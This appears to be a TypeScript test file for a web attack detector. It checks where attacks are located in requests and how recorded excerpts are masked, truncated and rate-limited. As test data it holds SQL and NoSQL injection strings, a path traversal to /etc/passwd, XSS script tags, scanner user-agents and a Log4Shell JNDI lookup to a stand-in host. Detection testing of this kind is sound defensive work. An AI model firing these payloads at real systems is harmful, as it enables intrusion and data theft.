/**
 * Where an attack was found (AttackDetector.locate): the input of each type `detect` reports, over the
 * whole labelled corpus (every type placed, none invented), and the locations' spelling; a record
 * keeps them masked and cut, and only when it has attack types.
 */
import t from 'tap'
import type { AttackInputs } from '../../src/insight/attacks.ts'
import { defaultDetector } from '../helpers/detector.ts'
import { inputsOf, loadCorpus } from './corpus/evaluate.ts'
import { Insight, LOCATES_PER_SECOND } from '../../src/insight/insight.ts'
import { newRecord } from '../../src/capture/record.ts'
import { testConfig } from '../helpers/sensor.ts'

const detector = defaultDetector()
const base: AttackInputs = { path: '/api/items', query: '', headers: { host: 'shop.example.com', 'user-agent': 'Mozilla/5.0 Firefox/127.0' }, body: null }

t.test('every type detect reports is placed, and no other, over the corpus', async (t) => {
  let flagged = 0
  const wrong: string[] = []
  for (const file of ['malicious.jsonl', 'held-out.jsonl', 'benign.jsonl'] as const) {
    for (const e of loadCorpus(file)) {
      const inputs = inputsOf(e)
      const types = detector.detect(inputs)
      if (types.length === 0) continue
      flagged++
      const located = detector.locate(inputs)
      if (located.map((m) => m.type).sort().join() !== [...types].sort().join()) wrong.push(`${e.where} ${e.value.slice(0, 60)}: ${types.join()} vs ${located.map((m) => m.type).join()}`)
      if (located.some((m) => m.value.length > 200)) wrong.push(`${e.value.slice(0, 60)}: value past 200 characters`)
    }
  }
  t.ok(flagged > 1000, `${flagged} flagged requests`)
  t.same(wrong, [], 'the same types, each placed')
})

t.test('where: the query parameter, the path, the header, the body field, the cookie', async (t) => {
  const where = (inputs: Partial<AttackInputs>) => detector.locate({ ...base, ...inputs, headers: { ...base.headers, ...inputs.headers } }).map((m) => [m.type, m.where, m.value])
  t.same(where({ query: `page=2&id=${encodeURIComponent("1' OR '1'='1")}` }), [['sqli', 'query:id', "1' OR '1'='1"]])
  t.same(where({ path: '/../../etc/passwd' }), [['path_traversal', 'path', '/../../etc/passwd']])
  t.same(where({ headers: { referer: 'https://x.example/?q=<script>alert(1)</script>' } }), [['xss', 'header:referer', 'https://x.example/?q=<script>alert(1)</script>']])
  t.same(where({ headers: { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }), [['scanner', 'header:user-agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)']])
  t.same(where({ headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ user: { name: "x' UNION SELECT password FROM users--" } })) }), [['sqli', 'body:$.user.name', "x' UNION SELECT password FROM users--"]])
  t.same(where({ headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ items: [{ q: 'ok' }, { q: '<script>alert(1)</script>' }], 'a b': "' OR 1=1--" })) }).map(([type, at]) => `${type} ${at}`).sort(), ['sqli body:$["a b"]', 'xss body:$.items[1].q'], 'a path in the document')
  t.same(where({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`a=1&comment=${encodeURIComponent('<script>alert(1)</script>')}`) }), [['xss', 'body:comment', '<script>alert(1)</script>']], 'a form field')
  t.same(where({ headers: { 'content-type': 'application/json' }, body: Buffer.from('{"user":{"$ne":null}}') }), [['nosqli', 'body', '{"user":{"$ne":null}}']], 'an operator key: the body as a whole')
  t.same(where({ headers: { cookie: `theme=${encodeURIComponent('<script>alert(1)</script>')}; sid=abc` } }), [['xss', 'cookie:theme', '<script>alert(1)</script>']])
  t.same(where({ headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }), [['jndi', 'header:x-api-version', '${jndi:ldap://evil.example/a}']])
  const two = where({ query: `q=${encodeURIComponent('<script>alert(1)</script>')}`, headers: { 'user-agent': 'Nikto/2.1.6' } })
  t.same(two.map(([type, at]) => `${type} ${at}`).sort(), ['scanner header:user-agent', 'xss query:q'], 'each type where it was')
  t.same(detector.locate(base), [], 'nothing found, nothing placed')
})

t.test('a record keeps where, masked and cut, and only with attack types', async (t) => {
  const config = testConfig({ applications: [{ name: 'shop', hosts: ['shop.test'], upstream: 'http://127.0.0.1:1' }], traced: [{ name: 'acct', from: 'query', key: 'acct', mask: 'hash' }] })
  const insight = new Insight(config, detector, null)
  const rec = (url: string, headers: Record<string, string> = {}, body: string | null = null) => {
    const r = newRecord('r1', Date.now(), 'shop', body === null ? 'GET' : 'POST', url, { host: 'shop.test' }, '192.0.2.1')
    const q = url.indexOf('?')
    r.inputs = { path: r.path, query: q === -1 ? '' : url.slice(q + 1), headers: { host: 'shop.test', ...headers }, body: body === null ? null : Buffer.from(body) }
    insight.analyse(r)
    return r
  }
  const benign = rec('/products/1?page=2')
  t.equal(benign.matches, undefined, 'a request without attacks: no matches at all')
  t.same(rec(`/p?id=${encodeURIComponent("1' OR '1'='1")}`).matches, [{ type: 'sqli', where: 'query:id', excerpt: "1' OR '1'='1" }])
  t.same(rec(`/p?acct=${encodeURIComponent("1' OR '1'='1")}`).matches, [{ type: 'sqli', where: 'query:acct', excerpt: '[redacted]' }], 'a traced parameter with a mask: never in clear')
  t.same(rec(`/p?password=${encodeURIComponent("1' OR '1'='1")}`).matches, [{ type: 'sqli', where: 'query:password', excerpt: '[redacted]' }], 'a credential name')
  t.same(rec('/p', { cookie: `PHPSESSID=${encodeURIComponent("1' OR '1'='1")}` }).matches, [{ type: 'sqli', where: 'cookie:phpsessid', excerpt: '[redacted]' }], 'a session cookie')
  t.same(rec('/p', { 'content-type': 'application/json' }, JSON.stringify({ user: { password: "' OR 1=1--" } })).matches, [{ type: 'sqli', where: 'body:$.user.password', excerpt: '[redacted]' }], 'a secret-like body field, by its path')
  const nosql = rec('/login', { 'content-type': 'application/json' }, '{"user":{"$ne":null},"password":"hunter2","token":"abc"}')
  t.same(nosql.matches, [{ type: 'nosqli', where: 'body', excerpt: '{"user":{"$ne":null},"password":"[redacted]","token":"[redacted]"}' }], 'secret fields inside a whole body: redacted')
  const long = rec(`/p?q=${encodeURIComponent(`<script>alert(1)</script>${'x'.repeat(500)}4111 1111 1111 1111`)}`)
  t.equal(long.matches![0]!.excerpt.length, 80, 'cut to 80 characters')
  t.ok(long.matches![0]!.excerpt.endsWith('…'))
  t.same(rec(`/p?q=${encodeURIComponent('<script>x</script> 4111 1111 1111 1111\r\n')}`).matches![0]!.excerpt, '<script>x</script> 411111******1111\\x0d\\x0a', 'card numbers truncated, control characters escaped')
})

t.test('a flood of attacks: at most LOCATES_PER_SECOND located a second, the rest counted', async (t) => {
  const config = testConfig({ applications: [{ name: 'shop', hosts: ['shop.test'], upstream: 'http://127.0.0.1:1' }] })
  const insight = new Insight(config, detector, null)
  const second = Math.floor(Date.now() / 1000) * 1000
  const flagged = (i: number, ts: number) => {
    const r = newRecord(`r${i}`, ts, 'shop', 'GET', '/p', { host: 'shop.test' }, '192.0.2.1')
    r.inputs = { path: '/p', query: `id=${encodeURIComponent("1' OR '1'='1")}`, headers: { host: 'shop.test' }, body: null }
    insight.analyse(r)
    return r
  }
  const burst = Array.from({ length: LOCATES_PER_SECOND + 100 }, (_, i) => flagged(i, second + (i % 1000)))
  t.equal(burst.filter((r) => r.matches !== undefined).length, LOCATES_PER_SECOND, 'located: the budget of one second')
  t.ok(burst.every((r) => r.attacks.includes('sqli')), 'every one keeps its attack types')
  t.equal(insight.takeUnlocated(), 100, 'the rest counted')
  t.equal(insight.takeUnlocated(), 0, 'once')
  t.ok(flagged(0, second + 1000).matches !== undefined, 'the next second has a budget again')
})
